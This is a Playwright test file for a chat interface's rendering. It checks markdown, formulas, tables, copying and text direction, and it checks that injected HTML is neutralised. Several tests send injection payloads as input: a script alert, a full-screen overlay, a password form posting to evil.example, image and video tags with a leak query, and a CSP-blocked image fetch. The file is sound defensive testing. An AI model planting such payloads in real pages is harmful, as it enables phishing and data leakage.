"""What is said is what is seen, whatever it holds."""

import pytest
from playwright.sync_api import BrowserContext, Page, expect

pytestmark = pytest.mark.browser
USER, BOT = "#chat .user .prose", "#chat .bot .prose"


def say(page: Page, text: str) -> None:
    page.fill("#message textarea", text)
    page.press("#message textarea", "Enter")
    expect(page.locator("#status .note")).to_contain_text("token")


@pytest.mark.parametrize(
    "text",
    [
        "In Java, List<String> names = new ArrayList<String>(); is a list. More follows.",
        "if a < b and c > d then x<y and y>z. Also Vec<u8>, Map<K, V>",
        "<context>the document</context> and <think>so</think> &lt; &amp;",
        "see `vector<int>` and <order>one</order>",
    ],
)
def test_text_with_angle_brackets_is_whole(echo_chat: Page, text: str) -> None:
    say(echo_chat, text)
    expect(echo_chat.locator(USER)).to_have_text(text)
    expect(echo_chat.locator(BOT).last).to_contain_text(text.replace("`", ""))


def test_a_message_is_shown_as_typed(echo_chat: Page) -> None:
    text = "2*3*4 __init__.py\n\n  # no heading\n- [x] $a$ <script>alert(1)</script>"
    say(echo_chat, text)
    assert echo_chat.locator(USER).inner_text() == text


def test_an_answer_covers_and_fetches_nothing(echo_chat: Page) -> None:
    say(
        echo_chat,
        '<div style="position:fixed;inset:0;background:red;z-index:9999">x</div>\n\n'
        '<form action="https://evil.example"><input type=password><button>Go</button></form>\n\n'
        "![x](https://evil.example/p.png?leak=1) <img src=https://evil.example/i.png> "
        "<video src=https://evil.example/v.mp4></video>",
    )
    expect(echo_chat.locator(BOT).last).to_contain_text("<form action=")
    assert (
        echo_chat.locator("#chat .message :is(form, input, img, video, [style*=fixed])").count()
        == 0
    )
    echo_chat.click(
        "#new-chat"
    )  # nothing covers it; `opened` fails for any request to another host
    expect(echo_chat.locator(BOT)).to_have_count(0)


def test_markdown_and_formulas_are_drawn(echo_chat: Page) -> None:
    say(echo_chat, "**bold** $a<b$ costs $5 and $6\n\n```python\nx: list[int] = a < b\n```\n")
    answer = echo_chat.locator(BOT).last
    expect(answer.locator("strong")).to_have_text("bold")
    expect(answer.locator(".katex")).to_have_count(1)
    expect(answer).to_contain_text("costs $5 and $6")
    expect(answer.locator("pre")).to_contain_text("x: list[int] = a < b")


def test_tasks_footnotes_and_columns_are_drawn(echo_chat: Page) -> None:
    text = "- [x] done\n- [ ] open\n\nSaid[^1].\n\n[^1]: By him.\n\n| a | b |\n|--:|:-:|\n| 1 | 2 |"
    say(echo_chat, text)
    answer = echo_chat.locator(BOT).last
    expect(answer.locator("li")).to_have_text(["☑ done", "☐ open"])
    expect(answer).to_contain_text("Said¹.")
    expect(answer).to_contain_text("¹ By him.")
    aligned = "cells => cells.map(cell => getComputedStyle(cell).textAlign)"
    assert answer.locator("td").evaluate_all(aligned) == ["right", "center"]


def test_copying_and_editing_give_the_text(echo_chat: Page) -> None:
    text = "Is Map<K, V> *fast*?"
    echo_chat.context.grant_permissions(["clipboard-read", "clipboard-write"])
    say(echo_chat, text)
    echo_chat.locator("#chat [aria-label='Copy message']").first.click()
    echo_chat.wait_for_function(
        "async text => (await navigator.clipboard.readText()) === text", arg=text
    )
    echo_chat.locator("#chat").get_by_label("Edit").first.click()
    expect(echo_chat.locator("#chat textarea").first).to_have_value(text)


def test_another_host_is_refused_by_policy(regular: BrowserContext, echo_url: str) -> None:
    page = regular.new_page()  # `opened` would count the request that the policy refuses
    page.goto(echo_url, wait_until="domcontentloaded")
    refused = page.evaluate(
        """() => new Promise(resolve => {
            document.addEventListener('securitypolicyviolation', e => resolve(e.blockedURI));
            document.body.append(Object.assign(new Image(), {src: 'https://evil.example/x.png'}));
        })"""
    )
    page.close()
    assert refused == "https://evil.example/x.png"


def test_each_paragraph_has_its_direction(echo_chat: Page) -> None:
    say(echo_chat, "مرحبا بالعالم.\n\nHello.")
    starts = echo_chat.evaluate(
        """() => [...document.querySelectorAll('#chat .bot .prose p')].map(p => {
            const range = document.createRange();
            range.selectNodeContents(p);
            const text = range.getBoundingClientRect(), box = p.getBoundingClientRect();
            return text.left - box.left > 20 ? 'right' : 'left';
        })"""
    )
    assert starts[-2:] == ["right", "left"]  # below the byline
